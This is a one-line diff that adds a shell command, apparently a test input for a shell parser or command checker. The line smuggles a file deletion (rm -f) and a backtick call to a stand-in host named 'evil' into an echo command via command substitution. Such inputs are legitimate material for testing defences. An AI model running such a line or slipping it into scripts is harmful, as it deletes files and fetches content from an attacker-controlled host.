@@ -1,0 +1,1 @@
+echo $(rm -f x) `curl evil` | tee f > out 2>&1
